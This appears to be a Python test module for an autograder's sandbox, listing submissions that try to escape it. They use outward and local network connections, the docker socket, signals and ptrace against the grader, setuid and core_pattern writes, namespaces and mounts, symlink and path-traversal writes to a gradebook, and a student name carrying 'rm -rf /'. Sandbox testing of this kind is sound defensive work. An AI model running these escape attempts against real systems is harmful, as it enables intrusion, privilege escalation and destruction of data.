"""Submissions that try to leave the sandbox: by network, signals, rights, links and names."""

from tests.attacks import MARK, RIGHT, Attack, double

ATTEMPT = """
import ctypes, os, signal, socket, time
libc = ctypes.CDLL(None, use_errno=True)
def attempt(what, *more):
    try:
        print(what.__name__, what(*more))
    except BaseException as error:
        print(what.__name__, repr(error))
"""


def tries_all(name: str, tries: str, code: str, **more: object) -> Attack:
    """Run `code`, in which `attempt` goes on after what fails."""
    return Attack(name, tries, first=ATTEMPT + code, **more)


NETWORK = [
    tries_all(
        "TCP to this machine",
        "Connects to a server on the grader's machine, under each of its addresses.",
        """
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", socket.gethostname()):
    attempt(socket.create_connection, (host, int("$port")), 1)
""",
    ),
    tries_all(
        "TCP and UDP outward",
        "Sends its work to a server outside, and asks a name server.",
        """
attempt(socket.create_connection, ("192.0.2.1", 80), 1)
attempt(socket.getaddrinfo, "example.org", 80)
with socket.socket(type=socket.SOCK_DGRAM) as udp:
    for address in (("127.0.0.1", int("$udp")), ("192.0.2.1", 53), ("255.255.255.255", 9)):
        attempt(udp.sendto, b"hello", address)
""",
    ),
    tries_all(
        "sockets by name",
        "Connects to the grader's sockets, those in the file system and the abstract ones.",
        """
for name in ("\\0$abstract", "$socket", "/run/docker.sock", "/run/dbus/system_bus_socket",
             "/var/run/docker.sock", "\\0/tmp/.X11-unix/X0", "/tmp/.X11-unix/X0"):
    attempt(socket.socket(socket.AF_UNIX).connect, name)
    attempt(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect, name)
""",
    ),
    tries_all(
        "sockets without a namespace",
        "Uses the families of sockets that no network namespace holds, vsock above all.",
        """
for family in (40, 38, 31, 30, 29, 21, 17, 44):
    attempt(socket.socket, family, socket.SOCK_STREAM)
for host in (1, 2, 0xFFFFFFFF):
    attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((host, int("$vsock"))))
""",
        says="Address family not supported",
    ),
    tries_all(
        "pairs of sockets without a namespace",
        "Makes pairs of sockets of families that no network namespace holds, TIPC above all.",
        """
for family in (30, 40, 38, 31, 2, 10, 16, 17, 44, 0x100000001):
    for kind in (1, 2, 5):
        pair = (ctypes.c_int * 2)()
        print(family, libc.syscall(53, family, kind, 0, pair))
attempt(socket.socketpair, 30, socket.SOCK_STREAM)
""",
        says="Address family not supported",
    ),
    tries_all(
        "a network of its own",
        "Makes network devices and addresses through netlink and raw sockets.",
        """
attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
up = bytes.fromhex("2000000010000500010000000000000000000000010000000100000001000000")
attempt(link.send, up)
attempt(link.recv, 1000)
attempt(socket.create_connection, ("127.0.0.1", int("$port")), 1)
""",
    ),
]

PROCESSES = [
    tries_all(
        "signals",
        "Sends every signal to the grader, to the first process and to everybody.",
        """
for pid in (int("$pid"), 1, os.getppid(), 0x7FFFFFFF):
    for number in (9, 15, 19, 11):
        attempt(os.kill, pid, number)
attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(1), 9))
signal.signal(15, signal.SIG_IGN)
attempt(os.kill, -1, 15)
""",
        answers=RIGHT,
        earns=15,
    ),
    tries_all(
        "tracing",
        "Attaches to the first process and to the grader as a debugger and reads their memory.",
        """
class Vector(ctypes.Structure):
    _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
room = ctypes.create_string_buffer(100)
ours, theirs = Vector(ctypes.addressof(room), 100), Vector(0x400000, 100)
for pid in (1, int("$pid"), os.getppid()):
    print("attach", libc.ptrace(16, pid, None, None), "seize", libc.ptrace(0x4206, pid, None, None))
    print("read", libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0))
    attempt(open, f"/proc/{pid}/mem", "r+b")
""",
    ),
    tries_all(
        "rights",
        "Becomes root: by setuid, capabilities, programs with the bit, core patterns.",
        """
import subprocess
for call in (os.setuid, os.setgid):
    attempt(call, 0)
attempt(os.setgroups, [0])
print("capset", libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6)))
for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "x", "/mnt"],
              ["unshare", "-Ur", "id"], ["bwrap", "--ro-bind", "/", "/", "id"]):
    attempt(lambda: subprocess.run(words, capture_output=True, timeout=5))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/oom_score_adj",
             "/proc/self/uid_map", "/proc/sys/user/max_user_namespaces", "/proc/sys/vm/drop_caches"):
    attempt(lambda: open(path, "w").write("|/tmp/attacker"))
""",
    ),
    tries_all(
        "namespaces",
        "Makes and enters namespaces, mounts file systems and changes its root.",
        """
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x2000000):
    print("unshare", libc.unshare(flag), "clone", libc.syscall(56, flag | 17, 0, 0, 0, 0))
for kind in ("mnt", "net", "user", "pid"):
    attempt(lambda: libc.setns(os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0))
for kind in (b"proc", b"tmpfs", b"sysfs", b"devpts", b"overlay"):
    print("mount", kind, libc.mount(b"none", b"/tmp", kind, 0, None))
print("remount", libc.mount(None, b"/", None, 32 | 4096, None), libc.umount2(b"/tmp", 2))
print("pivot", libc.syscall(155, b"/tmp", b"/tmp"))
attempt(os.chroot, "/tmp")
attempt(os.mknod, "/tmp/disk", 0o60666, os.makedev(254, 0))
""",
    ),
]

NAMES = [
    tries_all(
        "files everywhere",
        "Writes into every folder it can reach, the grader's and the installed packages among them.",
        f"""
import sys
places = ["$course", "$course/submitted/honest/he", "$home", "/tmp", "/dev/shm", "/etc", "/usr",
          "/var/tmp", "/grader/autograder/sandbox/inside", sys.prefix, *sys.path]
for place in places:
    attempt(lambda: open(place + "/{MARK}", "w").write("x"))
attempt(lambda: open("$course/gradebook.db", "w").write("x"))
attempt(os.remove, "$course/gradebook.db")
""",
    ),
    tries_all(
        "links inside",
        "Makes symbolic and hard links to the grader's files and writes through them.",
        f"""
for number, goal in enumerate(["$course", "/proc/1/root$course", "/", "../../../../$course"]):
    attempt(os.symlink, goal, f"link{{number}}")
    attempt(os.link, goal + "/gradebook.db", f"hard{{number}}")
    for name in ("gradebook.db", "{MARK}"):
        attempt(lambda: open(f"link{{number}}/{{name}}", "a").write("x"))
os.remove("init_utils.py")
os.symlink("$course/gradebook.db", "init_utils.py")
""",
    ),
    Attack(
        "paths in the names of files",
        "Hands in files whose names lead out of their folder.",
        files={
            f"../../../../tmp/{MARK}": b"x", f"/tmp/{MARK}": b"x", f"a/../../{MARK}": b"x",
            f"~/{MARK}": b"x", "new\nline": b"x",
        },
        says="could not be stored",
    ),
    Attack(
        "files in the way",
        "Hands in a folder where the assignment has a file, and names that no disk takes.",
        files={"init_utils.py/x": b"x", ".": b"x", "a" * 200: b"x", "he.ipynb/x": b"x"},
        answers=double("return 0"),
        assignment="tiny",
        says="could not be stored",
    ),
    Attack(
        "a zero in a name",
        "Hands in a file whose name holds a zero byte.",
        files={"a\0b": b"x"},
        assignment="tiny",
        says="its process has ended",
    ),
    Attack(
        "path as a student",
        "Calls itself by a path that leads out of the course.",
        student=f"../../../../tmp/{MARK}",
        answers=RIGHT,
        earns=15,
    ),
    Attack(
        "lines as a student",
        "Calls itself by a name of several lines, with codes for a terminal.",
        student="two\nlines\x1b[2J; rm -rf /",
        answers=RIGHT,
        earns=15,
    ),
]  # fmt: skip

ATTACKS = [*NETWORK, *PROCESSES, *NAMES]
